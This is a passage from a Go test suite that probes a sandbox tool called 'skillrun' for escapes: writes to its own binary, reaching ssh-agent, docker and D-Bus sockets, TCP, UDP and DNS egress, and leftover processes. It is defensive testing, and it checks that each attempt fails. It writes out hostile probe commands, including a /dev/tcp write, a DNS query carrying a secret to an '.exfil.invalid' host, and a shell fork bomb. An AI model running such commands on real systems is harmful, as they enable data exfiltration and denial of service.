./escape reopen /.skillrun/skillrun
for f in /.skillrun/skillrun /proc/1/exe; do (: >> "$f") 2>/dev/null && echo "ATTACK-OK open $f for writing"; done
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		requireLines(t, r.stdout, "chmod-same /.skillrun/skillrun", "open-write /.skillrun/skillrun")
		for name, res := range probeLines(r.stdout) {
			if strings.HasPrefix(res, "OK") && !strings.HasPrefix(name, "open ") {
				t.Errorf("E6: %s succeeded", name)
			}
		}
		if strings.Contains(r.stdout, "ATTACK-OK") {
			t.Errorf("E6:\n%s", r.stdout)
		}

		b, err := os.ReadFile(skillrunBin)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct{ label, bin, ws string }{
			{"~/.local/bin/skillrun with the home as the workspace", filepath.Join(e.home, ".local", "bin", "skillrun"), e.home},
			{"<workspace>/bin/skillrun", filepath.Join(e.workspace, "bin", "skillrun"), e.workspace},
		} {
			var made []string // removed again at the end, deepest first
			for _, d := range []string{filepath.Dir(filepath.Dir(c.bin)), filepath.Dir(c.bin)} {
				if _, err := os.Lstat(d); err != nil {
					e.mkdir(d, 0o755)
					made = append([]string{d}, made...)
				}
			}
			e.write(c.bin, string(b), 0o755)
			before := fingerprint(t, filepath.Dir(c.bin), nil)
			cmd := e.command(t.Context(), "--workspace", c.ws, "-c", `b=`+c.bin+`
(echo x >> "$b") 2>/dev/null && echo "ATTACK-OK append"
cp /bin/true "$b.new" 2>/dev/null && mv -f "$b.new" "$b" 2>/dev/null && echo "ATTACK-OK replace"
chmod 777 "$b" 2>/dev/null && echo "ATTACK-OK chmod"
rm -f "$b.new"; echo done`, "--", x.marker)
			cmd.Path = c.bin
			cmd.Args[0] = c.bin
			cmd.Dir = c.ws
			out, _ := cmd.CombinedOutput()
			if strings.Contains(string(out), "ATTACK-OK") || !strings.Contains(string(out), "done") {
				t.Errorf("E6 (%s): skillrun's own executable is writable from inside:\n%s", c.label, out)
			}
			if diff := diffPrints(before, fingerprint(t, filepath.Dir(c.bin), nil)); len(diff) > 0 {
				t.Errorf("E6 (%s): skillrun's own executable changed:\n  %s", c.label, strings.Join(diff, "\n  "))
			}
			os.Remove(c.bin)
			for _, d := range made {
				os.RemoveAll(d)
			}
		}
	})
}

// ---------------------------------------------------------------------------------------------
// F. Sockets to host services.

// TestEscapeHostSockets: F1 (an abstract unix socket), F2 (an ssh-agent socket named by
// SSH_AUTH_SOCK, in the host's /tmp and in ~/.ssh), F3 (docker/podman-style sockets in the host's
// runtime directories), and a D-Bus address in the environment. The listeners are the test's own.
func TestEscapeHostSockets(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		var h hits
		token := randomToken(t)
		abstract := "@skillrun-escape-" + token
		ln, err := net.Listen("unix", abstract)
		if err != nil {
			t.Fatal(err)
		}
		acceptOn(t, ln, abstract, &h)
		agentDir, err := os.MkdirTemp("", "skillrun-agent-")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(agentDir)
		os.Chmod(agentDir, 0o755)
		paths := []string{
			filepath.Join(agentDir, "agent.sock"),
			filepath.Join(e.home, ".ssh", "agent.sock"),
			filepath.Join(e.runtime, "podman", "podman.sock"),
			filepath.Join(e.runtime, "docker.sock"),
			filepath.Join(e.runtime, "bus"),
		}
		if os.Geteuid() == 0 {
			runDir := filepath.Join("/run", "skillrun-escape-"+token)
			defer os.RemoveAll(runDir)
			paths = append(paths, filepath.Join(runDir, "docker.sock"))
		}
		for _, p := range paths {
			os.MkdirAll(filepath.Dir(p), 0o755)
			l, err := net.ListenUnix("unix", &net.UnixAddr{Name: p, Net: "unix"})
			if err != nil {
				t.Fatal(err)
			}
			l.SetUnlinkOnClose(false) // the socket file goes with its directory, after the guards' check
			acceptOn(t, l, p, &h)
			os.Chmod(p, 0o777) // only the sandbox may stop the connection, not the socket's mode
		}
		os.Chmod(e.runtime, 0o700)
		e.extraEnv = append(e.extraEnv, "SSH_AUTH_SOCK="+paths[0], "DBUS_SESSION_BUS_ADDRESS=unix:path="+paths[4])
		x.snapshot()
		r := x.attempt(`./escape unix ` + abstract + ` "$SSH_AUTH_SOCK" ` + strings.Join(paths, " ") + `
env | grep -E '^(SSH_AUTH_SOCK|DBUS_SESSION_BUS_ADDRESS)=' | sed 's/^/ATTACK-OK env /'
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		want := []string{"unix " + abstract}
		for _, p := range paths {
			want = append(want, "unix "+p)
		}
		requireLines(t, r.stdout, want...)
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("F1-F3: host sockets reachable:\n%s", strings.Join(ok, "\n"))
		}
		time.Sleep(100 * time.Millisecond)
		if got := h.list(); len(got) > 0 {
			t.Errorf("F1-F3: the host's listeners saw: %v", got)
		}
	})
}

// ---------------------------------------------------------------------------------------------
// G. Network egress.

// TestEscapeNetwork: G1 (TCP to 127.0.0.1, also with bash's /dev/tcp), G2 (TCP to ::1), G3
// (MPTCP), G4 (UDP), G5 (a DNS query carrying a secret, over UDP and TCP) to listeners the test
// starts on the host's loopback, without network in the plan and with a granted host.
func TestEscapeNetwork(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		var h hits
		var tcpAddrs, udpAddrs, dnsAddrs []string
		for _, fam := range []struct{ tcp, udp, host string }{{"tcp4", "udp4", "127.0.0.1"}, {"tcp6", "udp6", "::1"}} {
			ln, err := net.Listen(fam.tcp, net.JoinHostPort(fam.host, "0"))
			if err != nil {
				t.Logf("no %s listener on this machine, that family is not probed: %v", fam.host, err)
				continue
			}
			acceptOn(t, ln, ln.Addr().String(), &h)
			tcpAddrs = append(tcpAddrs, ln.Addr().String())
			pc, err := net.ListenPacket(fam.udp, net.JoinHostPort(fam.host, "0"))
			if err != nil {
				t.Fatal(err)
			}
			readOn(t, pc, pc.LocalAddr().String(), &h)
			udpAddrs = append(udpAddrs, pc.LocalAddr().String())
			// A DNS server: UDP and TCP on one port.
			for i := 0; i < 20; i++ {
				dpc, err := net.ListenPacket(fam.udp, net.JoinHostPort(fam.host, "0"))
				if err != nil {
					t.Fatal(err)
				}
				dln, err := net.Listen(fam.tcp, dpc.LocalAddr().String())
				if err != nil {
					dpc.Close()
					continue
				}
				readOn(t, dpc, "dns "+dpc.LocalAddr().String(), &h)
				acceptOn(t, dln, "dns "+dln.Addr().String(), &h)
				dnsAddrs = append(dnsAddrs, dpc.LocalAddr().String())
				break
			}
		}
		if len(tcpAddrs) == 0 {
			t.Fatal("no loopback listener could be started")
		}
		_, port, _ := net.SplitHostPort(tcpAddrs[0])
		exfil := strings.ToLower(e.canary) + ".exfil.invalid"
		script := `./escape tcp ` + strings.Join(tcpAddrs, " ") + `
./escape mptcp ` + strings.Join(tcpAddrs, " ") + `
./escape udp ` + strings.Join(udpAddrs, " ") + `
./escape dns ` + exfil + ` ` + strings.Join(dnsAddrs, " ") + `
(echo ESCAPED > /dev/tcp/127.0.0.1/` + port + `) 2>/dev/null && echo "ATTACK-OK /dev/tcp"
(echo ESCAPED > /dev/udp/127.0.0.1/` + port + `) 2>/dev/null
echo done`
		for _, network := range []bool{false, true} {
			if network {
				x.setPolicy("version: 1\nagent:\n  network:\n    allow: [\"example.invalid:443\"]\n")
				x.snapshot()
			}
			r := x.attempt(script)
			if !strings.HasSuffix(r.stdout, "done\n") {
				t.Fatalf("network %v: the probe did not run to the end:\n%s", network, r)
			}
			for _, a := range tcpAddrs {
				requireLines(t, r.stdout, "tcp "+a)
				if got := probeLines(r.stdout); got["mptcp "+a] == "" && got["mptcp socket "+a] == "" {
					t.Errorf("G3: the MPTCP probe did not report on %s:\n%s", a, r.stdout)
				}
			}
			for _, a := range udpAddrs {
				requireLines(t, r.stdout, "udp "+a)
			}
			for _, a := range dnsAddrs {
				requireLines(t, r.stdout, "dns udp "+a, "dns tcp "+a)
			}
			for name, res := range probeLines(r.stdout) {
				// A UDP send "succeeds" into the sandbox's own loopback; what counts is arrival.
				if strings.HasPrefix(res, "OK") && !strings.HasPrefix(name, "udp ") && !strings.HasPrefix(name, "dns udp ") {
					t.Errorf("G1-G5 (network %v): %s succeeded", network, name)
				}
				if strings.HasPrefix(name, "mptcp socket") && res != "EPROTONOSUPPORT" {
					t.Errorf("G3 (network %v): an MPTCP socket was not refused by the filter: %s", network, res)
				}
			}
			if strings.Contains(r.stdout, "ATTACK-OK") {
				t.Errorf("G1 (network %v):\n%s", network, r.stdout)
			}
			time.Sleep(300 * time.Millisecond)
			if got := h.list(); len(got) > 0 {
				t.Errorf("G1-G5 (network %v): the host's listeners saw: %v", network, got)
			}
		}
	})
}

// ---------------------------------------------------------------------------------------------
// H. Resources and process lifetime.

// TestEscapeForkBomb: H1. With the developer's policy limiting agent commands to 64 processes,
// fork stops there (EAGAIN), and a real shell fork bomb ends with the run and leaves nothing.
func TestEscapeForkBomb(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		x.setPolicy("version: 1\nagent:\n  limits: {processes: 64}\n")
		x.snapshot()
		r := x.attempt(`./cprobe forkbomb 1000; echo done`)
		m := regexp.MustCompile(`forkbomb: (\d+) children, then (\S+)`).FindStringSubmatch(r.stdout)
		if m == nil {
			t.Fatalf("H1: the fork probe did not report:\n%s", r)
		}
		n, _ := strconv.Atoi(m[1])
		if n > 64 || m[2] != "EAGAIN" {
			t.Fatalf("H1: %d processes started under a limit of 64 (then %s); not running the real fork bomb", n, m[2])
		}
		// Bounded by the limit, so safe to run: the classic bomb, stopped by the timeout.
		r = x.attempt(`bomb() { bomb | bomb & }; bomb; sleep 30`, "--timeout", "1s")
		if r.code != 143 && r.code != 137 {
			t.Errorf("H1: the fork bomb's run ended with %d, want the timeout's 143 or 137:\n%s", r.code, r)
		}
		if r := e.run("--", "true"); r.code != 0 {
			t.Errorf("H1: the next run failed:\n%s", r)
		}
		e.assertNoState()
	})
}

// TestEscapeMemoryHog: H2. With memory limited to 256 MiB, an allocation of 1 GiB fails (ENOMEM
// from the rlimit without root) or the sandbox's process is killed (the cgroup's OOM killer as
// root), and the host is untouched. A limit too small for skillrun's own start must be refused
// with an error, not crash.
func TestEscapeMemoryHog(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		x.setPolicy("version: 1\nagent:\n  limits: {memory: 256MiB}\n")
		r := x.attempt(`./cprobe memhog 1024; echo "exit $?"`)
		if strings.Contains(r.stdout, "ALLOCATED") {
			t.Fatalf("H2: 1 GiB allocated under a 256 MiB limit:\n%s", r)
		}
		most := 0
		for _, m := range regexp.MustCompile(`memhog: (\d+) MiB`).FindAllStringSubmatch(r.stdout, -1) {
			if v, _ := strconv.Atoi(m[1]); v > most {
				most = v
			}
		}
		if most > 256+16 {
			t.Errorf("H2: %d MiB touched under a 256 MiB limit:\n%s", most, r)
		}
		if !strings.Contains(r.stdout, "then ENOMEM") && !strings.Contains(r.stdout, "exit 137") {
			t.Errorf("H2: want ENOMEM or the OOM killer:\n%s", r)
		}

		// A tiny limit: the command runs, or skillrun refuses the plan with its own error.
		x.setPolicy("version: 1\nagent:\n  limits: {memory: 64MiB}\n")
		r = x.runIn(e.workspace, "", "--", "true")
		if r.code != 0 && (r.code != 125 || !strings.Contains(r.stderr, "skillrun: error: ")) {
			t.Errorf("H2: with memory: 64MiB, true neither ran nor was refused with an error (exit %d):\n%.600s", r.code, r.stderr)
		}
	})
}

// TestEscapeSurvivors: H6 and H8. Every way to leave something running (setsid nohup, double
// fork, a child subreaper, ignoring SIGTERM and SIGHUP, a new process group) ends with the run.
func TestEscapeSurvivors(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		token := fmt.Sprintf("%d.%d", 700+os.Getpid()%99, time.Now().UnixNano()%1000000)
		r := x.attempt(`setsid nohup sleep ` + token + ` >/dev/null 2>&1 &
(sleep ` + token + ` &) &
sh -c 'trap "" TERM HUP INT; exec sleep ` + token + `' &
./escape subreaper sh -c 'sleep ` + token + ` & (setsid sleep ` + token + ` &)'
./escape spawn sh -c 'trap "" TERM HUP; sleep ` + token + `'
disown -a 2>/dev/null
sleep 0.2; echo started`)
		if r.code != 0 || !strings.Contains(r.stdout, "started") {
			t.Fatalf("the run failed:\n%s", r)
		}
		if !waitFor(3*time.Second, func() bool { return !markerAlive(token) }) {
			t.Errorf("H6/H8: a process started in the sandbox outlived the run (sleep %s)", token)
		}
		e.assertNoState()
	})
}

// TestEscapeKillNine: H7. skillrun killed with SIGKILL, at once and at several moments of its
// start, while its command runs daemons that ignore signals: nothing outlives it, and the next
// run cleans up what the killed one left.
func TestEscapeKillNine(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		var killedCgroups []string
		for i, delay := range []time.Duration{-1, 0, 5 * time.Millisecond, 15 * time.Millisecond, 40 * time.Millisecond} {
			token := fmt.Sprintf("%d.%d%d", 600+os.Getpid()%99, time.Now().UnixNano()%1000000, i)
			cmd := e.command(t.Context(), "-c", `sh -c 'trap "" TERM HUP INT; exec sleep `+token+`' &
./escape subreaper setsid sleep `+token+` >/dev/null
setsid nohup sleep `+token+` >/dev/null 2>&1 &
echo ready; sleep `+token, "--", x.marker)
			out, _ := cmd.StdoutPipe()
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			if delay < 0 {
				// Once the command runs: wait for it.
				if line, _ := bufio.NewReader(out).ReadString('\n'); line != "ready\n" {
					t.Fatalf("the sandbox did not start: %q", line)
				}
				if !waitFor(5*time.Second, func() bool { return markerAlive(token) }) {
					t.Fatal("the sandboxed processes never started")
				}
			} else {
				time.Sleep(delay)
			}
			cmd.Process.Kill()
			cmd.Wait()
			if !waitFor(5*time.Second, func() bool { return !markerAlive(token) }) {
				t.Errorf("H7 (killed after %v): the sandbox outlived skillrun's SIGKILL (sleep %s)", delay, token)
			}
			// As root the plan's limits gave the run cgroups of its own; its record names them.
			records, _ := filepath.Glob(filepath.Join(e.stateRoot(), "runs", "*.cgroups"))
			for _, rec := range records {
				b, _ := os.ReadFile(rec)
				killedCgroups = append(killedCgroups, strings.Fields(string(b))...)
			}
			if delay < 0 && os.Geteuid() == 0 && e.id.cred == nil && len(records) == 0 {
				t.Errorf("H7: a killed run with limits, as root, left no record of its cgroups")
			}
		}
		if r := e.run("--", "true"); r.code != 0 {
			t.Fatalf("the next run failed:\n%s", r)
		}
		for _, d := range killedCgroups {
			if _, err := os.Stat(d); err == nil {
				t.Errorf("H7: the next run did not remove the killed run's cgroup %s", d)
			}
		}
		e.assertNoState()
		x.checkGuards()
		x.snapshot()
	})
}
